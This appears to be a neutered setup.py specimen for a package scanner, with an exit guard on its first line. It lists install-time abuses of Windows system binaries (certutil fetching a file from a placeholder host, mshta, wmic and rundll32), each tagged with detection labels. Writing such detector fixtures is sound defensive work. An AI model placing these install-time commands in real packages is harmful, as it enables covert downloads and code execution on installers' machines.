raise SystemExit("specimen: not to be run")
import os
import subprocess
from setuptools import setup

os.system("certutil -urlcache -split -f https://example.com/a.txt a.txt")  # match: process-at-install  # match: system-binary-abuse
subprocess.run(["mshta", "javascript:close()"])  # match: process-at-install  # match: system-binary-abuse
subprocess.Popen(["wmic", "process", "call", "create", "specimen.exe"])  # match: process-at-install  # match: system-binary-abuse
os.system("rundll32.exe javascript:specimen")  # match: process-at-install  # match: system-binary-abuse
setup(name="specimen")
